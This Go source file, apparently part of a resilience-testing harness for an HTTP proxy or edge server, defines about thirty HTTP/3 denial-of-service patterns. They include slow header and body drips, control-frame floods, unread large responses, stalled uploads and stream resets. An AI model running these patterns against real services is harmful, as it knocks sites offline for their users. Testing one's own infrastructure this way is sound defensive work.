package attacks

import (
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	"github.com/quic-go/quic-go"
)

// over3 attacks by one connection of HTTP/3 after the other.
func over3(use func(ctx context.Context, c *quic.Conn) error) func(context.Context, net.IP, string) error {
	return func(ctx context.Context, from net.IP, address string) (err error) {
		dialed := overUDP(ctx, from, address, func(c *quic.Conn) { err = use(ctx, c) })
		if dialed != nil {
			return dialed
		}
		return err
	}
}

// write3 writes on a new stream, and ends it unless it stays open.
func write3(ctx context.Context, c *quic.Conn, b []byte, stays bool) (*quic.Stream, error) {
	s, err := c.OpenStreamSync(ctx)
	if err != nil {
		return nil, err
	}
	context.AfterFunc(ctx, func() { s.CancelWrite(0x10c) })
	if _, err = s.Write(b); err == nil && !stays {
		err = s.Close()
	}
	return s, err
}

// untilClosed waits until the edge closes the connection, or ctx ends.
func untilClosed(ctx context.Context, c *quic.Conn) error {
	select {
	case <-ctx.Done():
	case <-c.Context().Done():
	}
	return nil
}

// hold3 writes on a number of streams, and stays.
func hold3(streams int, b []byte, stays bool) func(context.Context, *quic.Conn) error {
	return func(ctx context.Context, c *quic.Conn) error {
		for range streams {
			if _, err := write3(ctx, c, b, stays); err != nil {
				return err
			}
		}
		return untilClosed(ctx, c)
	}
}

// drip3 writes the beginning of a request, and then one piece a second.
func drip3(first []byte, piece string) func(context.Context, *quic.Conn) error {
	return func(ctx context.Context, c *quic.Conn) error {
		s, err := write3(ctx, c, first, true)
		for tick := time.NewTicker(time.Second); err == nil; _, err = io.WriteString(s, piece) {
			select {
			case <-ctx.Done():
				return ctx.Err()
			case <-tick.C:
			}
		}
		return err
	}
}

// slowly3 sends a request, and reads the response at a byte a second.
func slowly3(b []byte) func(context.Context, *quic.Conn) error {
	return func(ctx context.Context, c *quic.Conn) error {
		s, err := write3(ctx, c, b, false)
		for tick := time.NewTicker(time.Second); err == nil; _, err = s.Read(make([]byte, 1)) {
			select {
			case <-ctx.Done():
				return ctx.Err()
			case <-tick.C:
			}
		}
		return err
	}
}

// pour3 writes the beginning of a stream, and then the same piece without a pause.
func pour3(first []byte, piece string) func(context.Context, *quic.Conn) error {
	return func(ctx context.Context, c *quic.Conn) error {
		s, err := write3(ctx, c, first, true)
		for again := strings.Repeat(piece, 100); err == nil; {
			_, err = io.WriteString(s, again)
		}
		return err
	}
}

// control3 opens a control stream, and writes frames on it every so often, or without a pause.
func control3(frames string, pause time.Duration) func(context.Context, *quic.Conn) error {
	return func(ctx context.Context, c *quic.Conn) error {
		s, err := c.OpenUniStream()
		if err != nil {
			return err
		}
		context.AfterFunc(ctx, func() { s.CancelWrite(0x10c) })
		for _, err = s.Write([]byte{0, 4, 0}); err == nil; _, err = io.WriteString(s, frames) {
			if pause > 0 {
				select {
				case <-ctx.Done():
					return ctx.Err()
				case <-time.After(pause):
				}
			}
		}
		return err
	}
}

// again3 sends requests in a row. It resets each if the attack is to abandon them, and reads the
// beginning of each response otherwise.
func again3(request func(nth int) []byte, reset bool, pause time.Duration) func(context.Context, *quic.Conn) error {
	return func(ctx context.Context, c *quic.Conn) error {
		for nth := 0; ctx.Err() == nil; nth++ {
			s, err := write3(ctx, c, request(nth), reset)
			if err != nil {
				return err
			}
			if reset {
				s.CancelRead(0x10c)
				s.CancelWrite(0x10c)
			} else {
				s.SetReadDeadline(time.Now().Add(time.Second))
				s.Read(make([]byte, 1<<10))
				s.CancelRead(0x10c)
			}
			if pause > 0 {
				time.Sleep(pause)
			}
		}
		return ctx.Err()
	}
}

// Arguments of once3: the client stays connected; it waits for a response.
const stays, answered = true, true

// once3 sends something, waits for the first bytes of a response if it is to be answered, and
// closes.
func once3(b []byte, stays, answered bool) func(context.Context, *quic.Conn) error {
	return func(ctx context.Context, c *quic.Conn) error {
		s, err := write3(ctx, c, b, stays)
		if err == nil && answered {
			s.SetReadDeadline(time.Now().Add(time.Second))
			_, err = s.Read(make([]byte, 1<<10))
		}
		return err
	}
}

// cold3 is a request for a path that is not cached; the origin answers, or is stuck.
func cold3(below string) func(int) []byte {
	return func(nth int) []byte { return head3("GET", fmt.Sprintf("%s/%d", below, nth), "") }
}

// same3 is always the same request.
func same3(b []byte) func(int) []byte { return func(int) []byte { return b } }

// The heads of requests. An upload announces 100 MB of DATA; a trailer comes behind a byte of them.
var (
	hit3     = head3("GET", "/hot", "")
	large3   = head3("GET", "/large", "")
	events3  = head3("GET", "/events", "")
	echo3    = head3("POST", "/echo", "")
	upload3  = append(head3("POST", "/stuck/upload", ""), 0, 0xc0, 0, 0, 0, 0x05, 0xf5, 0xe1, 0)
	tunnel3  = head3("CONNECT", "/tunnel", protocol3)
	flooded3 = head3("CONNECT", "/tunnel/flood", protocol3)
	trailer3 = append(append([]byte{}, echo3...), 0, 1, 'a', 1, 0x7f, 0xff, 0, 0)
)

// protocol3 is the field :protocol of an extended CONNECT (RFC 9220).
const protocol3 = "\x27\x02:protocol\x06attack"

// attacks3 are the attacks over HTTP/3, beside those over TCP.
var attacks3 = []attack{
	{name: "h3: connections that are kept alive", connections: 300, pause: time.Second, over: keptAlive},
	{name: "h3: connections that ask once and stay", connections: 300, pause: time.Second, over: over3(hold3(1, hit3, false))},
	{name: "h3: handshakes begun and left", connections: 8, pause: 10 * time.Millisecond, over: begunAndLeft},
	{name: "h3: connections made and closed", connections: 8, pause: 10 * time.Millisecond,
		over: over3(func(context.Context, *quic.Conn) error { return nil })},
	{name: "h3: connections closed in a request", connections: 8, pause: 10 * time.Millisecond,
		over: over3(once3(hit3[:8], stays, !answered))},
	{name: "h3: connections closed before the answer", connections: 8, pause: 10 * time.Millisecond,
		over: over3(once3(hit3, !stays, !answered))},
	{name: "h3: heads, a byte a second", connections: 300, pause: time.Second,
		over: over3(drip3([]byte{1, 0x7f, 0xff, 0, 0, 0xd1}, "\xd1"))},
	{name: "h3: heads that are too long", connections: 16, pause: 10 * time.Millisecond,
		over: over3(again3(same3([]byte{1, 0x80, 0, 0xff, 0xff, 0, 0}), false, 0))},
	{name: "h3: header blocks without end", connections: 16, pause: 10 * time.Millisecond,
		over: over3(pour3([]byte{1, 0xbf, 0xff, 0xff, 0xff, 0, 0}, "\xd1"))},
	{name: "h3: header lists that unfold", connections: 16, pause: 10 * time.Millisecond,
		over: over3(again3(same3(head3("GET", "/hot", strings.Repeat("\xf5", 8000))), false, 0))},
	{name: "h3: half a head, and frames of control", connections: 300, pause: time.Second,
		over: over3(func(ctx context.Context, c *quic.Conn) error {
			if _, err := write3(ctx, c, hit3[:8], true); err != nil {
				return err
			}
			return control3("\x21\x00", time.Second)(ctx, c)
		})},
	{name: "h3: bodies, a byte a second", connections: 300, pause: time.Second,
		over: over3(drip3(append(append([]byte{}, echo3...), 0, 0x7f, 0xff), "a"))},
	{name: "h3: DATA frames, a byte a second", connections: 300, pause: time.Second, over: over3(drip3(echo3, "\x00\x01a"))},
	{name: "h3: long bodies, all at once", connections: 100, pause: time.Second,
		over: over3(pour3(append(append([]byte{}, echo3...), 0, 0x80, 0x7a, 0x12, 0), strings.Repeat("a", 3000)))},
	{name: "h3: uploads of 100 MB, a byte a second", connections: 300, pause: time.Second,
		over: over3(drip3(append(append([]byte{}, echo3...), upload3[len(upload3)-9:]...), "a"))},
	{name: "h3: uploads that the origin does not read", connections: 100, pause: time.Second,
		over: over3(pour3(upload3, strings.Repeat("a", 1000)))},
	{name: "h3: uploads with endless trailer fields", connections: 100, pause: time.Second,
		over: over3(drip3(trailer3, strings.Repeat("\x21x\x01a", 50)))},
	{name: "h3: answers of 1 MiB that nobody reads", connections: 200, pause: time.Second, over: over3(hold3(1, large3, false))},
	{name: "h3: answers of 1 MiB, a byte a second", connections: 200, pause: time.Second, over: over3(slowly3(large3))},
	{name: "h3: requests in a row, no answer read", connections: 50, pause: 100 * time.Millisecond, over: over3(hold3(1000, hit3, false))},
	{name: "h3: answers whose window stays shut", connections: 200, pause: time.Second, over: over3(hold3(100, large3, false))},
	{name: "h3: events that nobody reads", connections: 200, pause: time.Second, over: over3(hold3(1, events3, false))},
	{name: "h3: cold calls while the origin is stuck", connections: 300, pause: time.Second,
		over: over3(again3(cold3("/stuck/h3"), false, 0))},
	{name: "h3: cold calls that the origin answers", connections: 50, pause: time.Second,
		over: over3(again3(cold3("/cold/h3"), false, 10*time.Millisecond))},
	{name: "h3: tunnels that stay silent", connections: 200, pause: time.Second, over: over3(hold3(10, tunnel3, true))},
	{name: "h3: tunnels opened and left", connections: 8, pause: 10 * time.Millisecond, over: over3(once3(tunnel3, stays, answered))},
	{name: "h3: tunnels whose bytes nobody reads", connections: 200, pause: time.Second, over: over3(hold3(1, flooded3, true))},
	{name: "h3: priorities, push limits and reserved frames, and no requests", connections: 300, pause: time.Second,
		over: over3(control3("\x80\x0f\x07\x00\x04\x00u=1\x0d\x01\x05\x21\x00", time.Second))},
	{name: "h3: frames of control, without a pause", connections: 16, pause: 10 * time.Millisecond,
		over: over3(control3(strings.Repeat("\x80\x0f\x07\x00\x04\x00u=1\x0d\x01\x05", 100), 0))},
	{name: "h3: reserved frames, without a pause", connections: 16, pause: 10 * time.Millisecond, over: over3(pour3(nil, "\x21\x00"))},
	{name: "h3: requests that are reset", connections: 16, pause: 10 * time.Millisecond, over: over3(again3(same3(large3), true, 0))},
	{name: "h3: cold calls that are reset", connections: 16, pause: 10 * time.Millisecond,
		over: over3(again3(cold3("/stuck/reset"), true, 0))},
}

func init() { attacks = append(attacks, attacks3...) }
